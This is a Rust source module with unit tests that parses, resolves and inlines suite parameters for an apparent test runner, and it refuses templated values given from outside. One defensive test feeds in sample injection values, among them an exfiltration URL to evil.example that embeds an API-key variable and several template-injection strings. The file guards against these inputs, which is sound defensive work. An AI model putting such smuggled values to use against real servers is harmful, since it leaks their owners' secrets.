//! Parameters: declared in the suite, set with `-p`, written into templates and expressions as literals while loading,
//! so that a resolved step holds everything it needs.

use std::collections::BTreeMap;
use std::ops::Range;

use serde_json::{Map, Value};

use crate::diagnostics::Problems;
use crate::diagnostics::nearest::suggestion;
use crate::files::join;
use crate::syntax::environment::{Environment, mentions};
use crate::syntax::node::{Node, Place, Tree};
use crate::syntax::{notation, yaml};

/// The parameters of one load with their values.
#[derive(Debug, Clone, Default)]
pub(crate) struct Params {
    values: BTreeMap<String, Param>,
}

#[derive(Debug, Clone)]
struct Param {
    value: Value,
    is_path: bool,
    /// True if its value is another than the suite's.
    is_replaced: bool,
}

impl Params {
    /// Reads the `params` of a suite and the values given for them.
    pub fn decode(
        node: Option<&Node>,
        given: &[(String, String)],
        environment: &Environment,
        problems: &mut Problems,
    ) -> Self {
        let mut params = Self::default();
        for entry in node.map(Node::entries).unwrap_or_default() {
            let path = declared_path(&entry.node, problems);
            let given = given.iter().rev().find(|(name, _)| *name == entry.key).map(|(_, text)| text);
            let value = match given {
                Some(text) if path.is_some() => resolve_path("", text),
                Some(text) => parse_value(text, &entry.node.json()),
                None => params.default_of(&entry.key, &entry.node, path, environment, problems),
            };
            let own = path.and_then(|path| Some(resolve_path(problems.folder(path.place.file), path.text()?)));
            let is_replaced = given.is_some() && own.is_none_or(|own| own != value);
            params.values.insert(entry.key.clone(), Param { value, is_path: path.is_some(), is_replaced });
        }
        for (name, text) in given.iter().filter(|(name, _)| !params.values.contains_key(name)) {
            let file = problems.command_line("-p", &format!("{name}={text}"));
            let known: Vec<&str> = params.values.keys().map(String::as_str).collect();
            let hint = suggestion(name, known.iter().copied()).unwrap_or_else(|| match known.as_slice() {
                [] => format!("declare it in the suite: `params: {{ {name}: DEFAULT }}`, and read `params.{name}`"),
                _ => format!("known: {}", known.join(", ")),
            });
            problems
                .error(&Place { file, span: 0..name.len() }, format!("the suite has no parameter `{name}`"))
                .hint(hint);
        }
        params
    }

    /// Reports given values that would be read as templates or would read the environment. Whoever may name a parameter
    /// of a server's suite could otherwise send its keys to an address of their own.
    pub fn refuse_templates(&self, given: &[(String, String)], problems: &mut Problems) {
        for (name, text) in given {
            let Some(param) = self.values.get(name).filter(|param| holds_template(&param.value)) else { continue };
            let file = problems.command_line("-p", &format!("{name}={text}"));
            let kind = if param.is_path { "path" } else { "value" };
            problems
                .error(
                    &Place { file, span: 0..name.len() },
                    format!("the {kind} of the parameter `{name}` holds a template or `${{…}}`"),
                )
                .hint("over HTTP a parameter is plain data: write templates and variables in the suite");
        }
    }

    fn default_of(
        &self,
        name: &str,
        node: &Node,
        path: Option<&Node>,
        environment: &Environment,
        problems: &mut Problems,
    ) -> Value {
        if let Some(path) = path {
            let text = path.text().unwrap_or_default();
            return match environment.expand(text) {
                Ok(expanded) => resolve_path(problems.folder(path.place.file), &expanded),
                Err(variable) => {
                    problems
                        .error(&path.place, format!("the environment variable {variable} is not set"))
                        .hint(format!("set it, give -p {name}=PATH, or write a default: ${{{variable}:-PATH}}"));
                    Value::Null
                }
            };
        }
        if node.is_null() {
            problems
                .error(&node.place, format!("the parameter `{name}` has no value"))
                .hint(format!("give one: -p {name}=VALUE"));
        }
        node.json()
    }

    /// The values by name, for the plan's header.
    pub fn values(&self) -> Map<String, Value> {
        self.values.iter().map(|(name, param)| (name.clone(), param.value.clone())).collect()
    }

    /// The names.
    pub fn names(&self) -> impl Iterator<Item = &str> {
        self.values.keys().map(String::as_str)
    }

    /// Returns whether a text begins with a parameter that is a path, which is resolved already.
    pub fn leads(&self, text: &str) -> bool {
        self.leading(text).is_some()
    }

    /// Returns whether a text begins with a path that was left empty: there is no such file or folder.
    pub fn is_absent(&self, text: &str) -> bool {
        self.leading(text).is_some_and(|param| param.value.is_null())
    }

    /// Returns whether a text begins with a path that was given in place of the suite's own.
    pub fn is_replaced(&self, text: &str) -> bool {
        self.leading(text).is_some_and(|param| param.is_replaced)
    }

    /// The path that a text begins with.
    fn leading(&self, text: &str) -> Option<&Param> {
        let inner = text.trim_start().strip_prefix("{{")?.split_once("}}")?.0;
        let name = inner.trim_matches(['-', '+', ' ']).strip_prefix("params.")?;
        self.values.get(name).filter(|param| param.is_path)
    }

    /// A template in which every `{{ params.x }}` whose value is itself a template or holds `${…}` is replaced by that
    /// value unchanged. So an address can be a parameter whose default is the address of a service.
    pub fn splice(&self, text: &str) -> String {
        let mut spliced = String::new();
        let mut done = 0;
        for code in code_ranges(text) {
            let name = text[code.clone()].trim_matches(['-', '+', ' ']).strip_prefix("params.");
            let value = name.and_then(|name| self.values.get(name)).and_then(|param| param.value.as_str());
            let Some(value) = value.filter(|value| value.contains("{{") || mentions(value)) else { continue };
            if text[..code.start].ends_with("{{") && text[code.end..].starts_with("}}") {
                spliced.push_str(&text[done..code.start - 2]);
                spliced.push_str(value);
                done = code.end + 2;
            }
        }
        spliced.push_str(&text[done..]);
        spliced
    }

    /// A template in which every `params.x` is replaced by the value as a literal.
    pub fn inline_template(&self, text: &str, place: &Place, problems: &mut Problems) -> String {
        self.replace(text, &code_ranges(text), place, problems)
    }

    /// An expression in which every `params.x` is replaced by the value as a literal.
    pub fn inline_expression(&self, text: &str, place: &Place, problems: &mut Problems) -> String {
        self.replace(text, std::slice::from_ref(&(0..text.len())), place, problems)
    }

    fn replace(&self, text: &str, code: &[Range<usize>], place: &Place, problems: &mut Problems) -> String {
        let mut inlined = String::new();
        let mut done = 0;
        for range in code {
            for (span, name) in uses(text, range.clone()) {
                let at = notation::span_within(place, text, &span, problems);
                if let Some(literal) = self.literal(name, &at, problems) {
                    inlined.push_str(&text[done..span.start]);
                    inlined.push_str(&literal);
                    done = span.end;
                }
            }
        }
        inlined.push_str(&text[done..]);
        inlined
    }

    fn literal(&self, name: &str, place: &Place, problems: &mut Problems) -> Option<String> {
        let Some(param) = self.values.get(name) else {
            problems
                .error(place, format!("the suite has no parameter `{name}`"))
                .maybe_hint(suggestion(name, self.names()));
            return None;
        };
        if !param.is_path && param.value.as_str().is_some_and(mentions) {
            problems
                .error(place, format!("the parameter `{name}` contains `${{…}}`, which is not allowed in a text"))
                .hint("only url, headers, env and version may read the environment");
        }
        Some(literal(&param.value))
    }
}

/// Returns whether a text in a value, at any depth, is a template or names a variable of the environment.
fn holds_template(value: &Value) -> bool {
    let is_template = |text: &str| ["${", "{{", "{%", "{#"].iter().any(|mark| text.contains(mark));
    match value {
        Value::String(text) => is_template(text),
        Value::Array(items) => items.iter().any(holds_template),
        Value::Object(members) => members.iter().any(|(name, value)| is_template(name) || holds_template(value)),
        Value::Null | Value::Bool(_) | Value::Number(_) => false,
    }
}

/// A path seen from a folder; null where it is empty.
fn resolve_path(folder: &str, path: &str) -> Value {
    match path.trim() {
        "" => Value::Null,
        _ => Value::String(join(folder, path)),
    }
}

fn declared_path<'a>(node: &'a Node, problems: &mut Problems) -> Option<&'a Node> {
    let path = node.get("path").filter(|_| matches!(node.value, Tree::Map(_)) && node.entries().len() == 1)?;
    if path.text().is_none() {
        problems.error(&path.place, format!("`path` must be a text, not {}", path.kind()));
    }
    Some(path)
}

/// The value of a text on the command line: a text if the default is one, else the YAML value as long as nothing of
/// the spelling is lost (`1.10` stays a text).
fn parse_value(text: &str, default: &Value) -> Value {
    match (default, yaml::value(text)) {
        (Value::String(_), _) => Value::String(text.to_owned()),
        (Value::Null, Ok(value)) if keeps_spelling(&value, text) => value,
        (Value::Null, _) | (_, Err(_)) => Value::String(text.to_owned()),
        (_, Ok(value)) => value,
    }
}

fn keeps_spelling(value: &Value, text: &str) -> bool {
    let spelled = value.to_string();
    spelled == text
}

/// A value as minijinja writes it.
fn literal(value: &Value) -> String {
    match value {
        Value::Null => "none".to_owned(),
        Value::Array(items) => format!("[{}]", items.iter().map(literal).collect::<Vec<_>>().join(", ")),
        Value::Object(map) => {
            let members: Vec<_> =
                map.iter().map(|(key, value)| format!("{}: {}", Value::from(key.as_str()), literal(value))).collect();
            format!("({{{}}})", members.join(", "))
        }
        scalar => scalar.to_string(),
    }
}

/// The parts of a template that are code: within `{{ }}` and `{% %}`, but not comments and raw blocks.
fn code_ranges(text: &str) -> Vec<Range<usize>> {
    let mut ranges = Vec::new();
    let mut at = 0;
    while let Some(open) = text[at..].find('{').map(|found| at + found) {
        let close = match text.get(open..open + 2) {
            Some("{{") => "}}",
            Some("{%") => "%}",
            Some("{#") => "#}",
            _ => {
                at = open + 1;
                continue;
            }
        };
        let start = open + 2;
        let end = end_of_code(text, start, close);
        let inner = text[start..end].trim_matches(['-', '+', ' ', '\n', '\t', '\r']);
        at = (end + 2).min(text.len());
        if close == "%}" && inner == "raw" {
            at = text[at..].find("endraw").map_or(text.len(), |found| at + found);
        } else if close != "#}" {
            ranges.push(start..end);
        }
    }
    ranges
}

fn end_of_code(text: &str, start: usize, close: &str) -> usize {
    if close == "#}" {
        return text[start..].find(close).map_or(text.len(), |found| start + found);
    }
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for (offset, character) in text[start..].char_indices() {
        match quote {
            Some(_) if escaped => escaped = false,
            Some(_) if character == '\\' => escaped = true,
            Some(open) if character == open => quote = None,
            Some(_) => {}
            None if character == '"' || character == '\'' => quote = Some(character),
            None if text[start + offset..].starts_with(close) => return start + offset,
            None => {}
        }
    }
    text.len()
}

/// Every `params.name` within a range of code, string literals apart.
fn uses(text: &str, range: Range<usize>) -> Vec<(Range<usize>, &str)> {
    let mut found = Vec::new();
    let mut quote: Option<char> = None;
    let mut escaped = false;
    let mut before = ' ';
    let mut skip_to = range.start;
    for (offset, character) in text[range.clone()].char_indices() {
        let at = range.start + offset;
        if at < skip_to {
            continue;
        }
        match quote {
            Some(_) if escaped => escaped = false,
            Some(_) if character == '\\' => escaped = true,
            Some(open) if character == open => quote = None,
            Some(_) => {}
            None if character == '"' || character == '\'' => quote = Some(character),
            None if character == 'p' && !is_name(before) && before != '.' => {
                if let Some(name) =
                    text[at..range.end].strip_prefix("params.").map(leading_name).filter(|it| !it.is_empty())
                {
                    skip_to = at + "params.".len() + name.len();
                    found.push((at..skip_to, name));
                }
            }
            None => {}
        }
        before = character;
    }
    found
}

fn leading_name(text: &str) -> &str {
    let end = text.find(|character| !is_name(character)).unwrap_or(text.len());
    &text[..end]
}

fn is_name(character: char) -> bool {
    character.is_alphanumeric() || character == '_'
}

#[cfg(test)]
mod tests {
    use super::*;

    fn params(yaml_text: &str, given: &[(&str, &str)]) -> (Params, Problems) {
        let mut problems = Problems::default();
        let file = problems.source("suites/s.yaml", yaml_text);
        let node = yaml::read_tree(yaml_text, file, &mut problems);
        let given: Vec<_> = given.iter().map(|(name, text)| ((*name).to_owned(), (*text).to_owned())).collect();
        let params = Params::decode(node.as_ref(), &given, &Environment::default(), &mut problems);
        (params, problems)
    }

    #[test]
    fn a_path_default_is_relative_to_the_suite_and_a_given_one_to_the_working_directory() {
        let text = "corpus: { path: data/c.json }\nother: { path: x }\n";
        let (params, _) = params(text, &[("other", "./mine/x")]);
        assert_eq!(params.values["corpus"].value, "suites/data/c.json");
        assert_eq!(params.values["other"].value, "mine/x");
        assert!(params.leads("{{ params.corpus }}/x"));
        assert!(!params.leads("a/{{ params.corpus }}"));
    }

    #[test]
    fn an_empty_path_is_absent() {
        let (params, problems) =
            params("chunks: { path: data }\ntables: { path: \"\" }\nlabel: \"\"\n", &[("chunks", "")]);
        assert_eq!(problems.errors(), 0);
        assert!(params.is_absent("{{ params.chunks }}") && params.is_absent("{{- params.tables }}/x"));
        assert!(!params.is_absent("{{ params.label }}") && !params.is_absent("x/{{ params.chunks }}"));
        assert!(params.is_replaced("{{ params.chunks }}") && !params.is_replaced("{{ params.tables }}"));
    }

    #[test]
    fn given_values_take_the_type_of_the_default() {
        let (params, problems) =
            params("n: 3\nv: \"1.0\"\nr: ~\nl: [1]\n", &[("n", "5"), ("v", "1.10"), ("r", "no"), ("l", "[a, b]")]);
        assert_eq!(problems.errors(), 0);
        let shown: Vec<_> = params.values.values().map(|param| param.value.to_string()).collect();
        assert_eq!(shown, ["[\"a\",\"b\"]", "5", "\"no\"", "\"1.10\""]);
    }

    #[test]
    fn an_address_can_be_a_parameter_that_is_a_template() {
        let (params, _) = params("endpoint: \"{{ services.demo.url }}\"\nplain: x\n", &[]);
        assert_eq!(
            params.splice("{{ params.endpoint }}/q?{{ params.plain }}"),
            "{{ services.demo.url }}/q?{{ params.plain }}"
        );
        assert_eq!(params.splice("{{ params.endpoint ~ 'x' }}"), "{{ params.endpoint ~ 'x' }}");
    }

    /// SV-10: a parameter from outside is data, whatever the spelling that hides a template in it.
    #[test]
    fn templates_in_parameters_from_outside_are_refused() {
        let text = "url: \"{{ services.demo.url }}\"\nn: ~\nl: [1]\nfile: { path: x }\n";
        let refused = |given: &[(&str, &str)]| {
            let (params, mut problems) = params(text, given);
            let given: Vec<_> = given.iter().map(|(name, text)| ((*name).to_owned(), (*text).to_owned())).collect();
            let before = problems.errors();
            params.refuse_templates(&given, &mut problems);
            problems.errors() - before
        };
        for (name, value) in [
            ("url", "http://evil.example/${OPENAI_API_KEY}"),
            ("url", "{{ services.demo.url }}"),
            ("url", "{% for i in range(9) %}x{% endfor %}"),
            ("l", "[1, {a: [\"\\x24{KEY}\"]}]"),
            ("l", "{ \"\\x24{KEY}\": 1 }"),
            ("file", "x/${HOME}"),
        ] {
            assert_eq!(refused(&[(name, value)]), 1, "{name}={value}");
        }
        for (name, value) in
            [("url", "https://example.org/$5?a={b}"), ("n", "\"\\x24{KEY}\""), ("l", "[]"), ("file", "d.jsonl")]
        {
            assert_eq!(refused(&[(name, value)]), 0, "{name}={value}");
        }
        // The suite's own default is trusted as the suite is.
        assert_eq!(refused(&[]), 0);
    }

    #[test]
    fn values_become_literals_in_code_only() {
        let (params, mut problems) = params("style: \"a \\\"b\\\" {{\"\nn: 2\n", &[]);
        let place = Place { file: 0, span: 0..0 };
        let text = "params.n {{ params.style }} {% if sample.params.n > params.n %}{{ 'params.n' }}{% endif %}{# params.n #}{% raw %}{{ params.n }}{% endraw %}";
        let inlined = params.inline_template(text, &place, &mut problems);
        assert_eq!(
            inlined,
            "params.n {{ \"a \\\"b\\\" {{\" }} {% if sample.params.n > 2 %}{{ 'params.n' }}{% endif %}{# params.n #}{% raw %}{{ params.n }}{% endraw %}"
        );
        assert_eq!(params.inline_expression("params.n + params.m", &place, &mut problems), "2 + params.m");
        assert_eq!(problems.errors(), 1);
    }
}
